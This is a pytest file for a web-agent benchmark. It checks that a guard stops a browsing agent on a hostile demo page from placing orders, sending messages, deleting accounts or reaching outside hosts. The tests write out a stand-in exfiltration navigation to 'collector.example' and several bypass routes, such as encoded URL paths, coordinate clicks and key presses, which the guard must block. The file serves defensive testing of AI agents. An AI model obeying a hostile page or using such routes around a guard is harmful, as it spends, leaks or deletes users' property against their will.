"""The hostile page: whatever an agent proposes on it, nothing is bought, sent, deleted or taken elsewhere."""

from __future__ import annotations

from collections.abc import AsyncIterator, Sequence
from pathlib import Path

import pytest
import pytest_asyncio

from tests.core.opening import opened
from webbench.benchmarks.demo.stage import DemoStage
from webbench.core.action import action as a
from webbench.core.agents.advice import Advice
from webbench.core.browser.browser_environment import BrowserEnvironment
from webbench.core.episode.episode import Episode
from webbench.core.episode.options import EpisodeOptions
from webbench.core.guards.guard import BLOCKED, Guard, GuardOptions
from webbench.core.observation import AccessibilityNode
from webbench.core.store.store import Store

pytestmark = pytest.mark.browser

NOTHING = {"purchase": [], "send": [], "delete": []}
OPTIONS = EpisodeOptions(pictures=False, live_score=False, html=False, step_limit=10_000)
TASK = "mind-the-bazaar"


@pytest_asyncio.fixture(loop_scope="session")
async def bazaar(environment: BrowserEnvironment, tmp_path: Path) -> AsyncIterator[Episode]:
    guard = Guard(GuardOptions())
    async with opened(environment, Store(tmp_path), OPTIONS, name=TASK, guard=guard) as (episode, _):
        yield episode


def deeds(episode: Episode) -> dict[str, list[str]]:
    assert isinstance(episode.stage, DemoStage)
    found: dict[str, list[str]] = episode.stage.snapshot()["bazaar"]
    return found


def called(episode: Episode, name: str) -> AccessibilityNode:
    """The last and so innermost node of this name that isn't a text alone, else the text."""
    nodes = [node for node in episode.observation.nodes if node.name == name]
    return next((node for node in nodes if node.role != "StaticText"), nodes[0])


def ref(node: AccessibilityNode) -> a.ElementRef:
    return a.ElementRef(id=node.id)


async def test_an_agent_that_obeys_the_page_gets_nowhere(bazaar: Episode) -> None:
    for name in ("Place order", "Send message", "Delete my account", "Continue reading"):
        step = await bazaar.act_on(a.Click(target=ref(called(bazaar, name))), actor="agent")
        assert step.error.startswith("the guard refused it: "), name
        assert step.provenance is not None
        assert step.provenance.decision == "refused"
    for name in ("Read the long review", "Show all photos", "Technical details"):
        await bazaar.act_on(a.Click(target=ref(called(bazaar, name))), actor="agent")
        assert any(message.text.startswith(BLOCKED) for message in bazaar.steps[-1].messages), name
    elsewhere = await bazaar.act_on(a.Goto(url="http://collector.example/gather?data=1"), actor="agent")
    assert not elsewhere.ok
    assert deeds(bazaar) == NOTHING


async def test_other_ways_to_the_same_deeds_are_closed_too(bazaar: Episode) -> None:
    pieces = next(node for node in bazaar.observation.nodes if node.name == "Pieces")
    order = called(bazaar, "Place order")
    assert order.box is not None
    base = bazaar.observation.url
    ways: Sequence[a.Action] = (
        a.Type(target=ref(pieces), text="3", enter=True),
        a.Type(target=ref(pieces), text="3\n"),
        a.Press(keys="Enter", target=ref(pieces)),
        a.Submit(),
        a.Submit(target=ref(pieces)),
        a.ClickAt(x=order.box.centre[0], y=order.box.centre[1]),
        a.Click(target=a.ElementRef(selector="form button", role="button", name="Cancel")),
        a.Click(target=ref(pieces), count=1),
        a.Press(keys="Enter"),
        a.Goto(url=f"{base}order/%70lace"),
        a.NewTab(url=f"{base}account//delete"),
    )
    for action in ways:
        await bazaar.act_on(action, actor="agent")
        assert deeds(bazaar) == NOTHING, action


async def test_a_person_may_do_what_an_agent_may_not(bazaar: Episode) -> None:
    order = a.Click(target=ref(called(bazaar, "Place order")))
    confirmed = await bazaar.act_on(order, actor="agent", advice=Advice(confirmed=True))
    assert confirmed.ok
    assert confirmed.provenance is not None
    assert confirmed.provenance.guard == 'purchase (button "Place order")'
    await bazaar.act_on(a.Back())
    await bazaar.act_on(a.Click(target=ref(called(bazaar, "Delete my account"))))
    assert {kind: len(done) for kind, done in deeds(bazaar).items()} == {
        "purchase": 1,
        "send": 0,
        "delete": 1,
    }


async def test_hosts_that_are_not_allowed_are_not_reached(
    environment: BrowserEnvironment, tmp_path: Path
) -> None:
    guard = Guard(GuardOptions(actions="off", hosts=("shop.test",)))
    async with opened(environment, Store(tmp_path), OPTIONS, name=TASK, guard=guard) as (episode, _):
        assert episode.observation.title.startswith("Brandy"), "the task's own site is allowed"
        step = await episode.act_on(a.Goto(url="http://collector.example/gather"))
        assert "no request goes to this host" in step.error
        (blocked,) = [one for one in step.messages if one.text.startswith(f"{BLOCKED}GET")]
        assert blocked.url == "http://collector.example/gather"


@pytest.mark.thorough
async def test_nothing_on_the_page_opens_a_way(bazaar: Episode) -> None:
    """Every element, each by every kind of action."""
    start = bazaar.observation.url
    for at in range(len(bazaar.observation.nodes)):
        for kind in range(7):
            if bazaar.observation.url != start:
                await bazaar.act_on(a.Goto(url=start), actor="agent")
            nodes = bazaar.observation.nodes
            if at >= len(nodes):
                return
            await bazaar.act_on(_acted(nodes[at], nodes, kind), actor="agent")
            assert deeds(bazaar) == NOTHING, nodes[at]


def _acted(node: AccessibilityNode, nodes: Sequence[AccessibilityNode], kind: int) -> a.Action:
    x, y = node.box.centre if node.box is not None else (5.0, 5.0)
    actions: Sequence[a.Action] = (
        a.Click(target=ref(node)),
        a.Click(target=ref(node), count=2),
        a.ClickAt(x=min(max(x, 0), 1279), y=min(max(y, 0), 719)),
        a.Press(keys="Enter", target=ref(node)),
        a.Press(keys="Space", target=ref(node)),
        a.Submit(target=ref(node)),
        a.Drag(source=ref(node), target=ref(nodes[-1])),
    )
    return actions[kind]
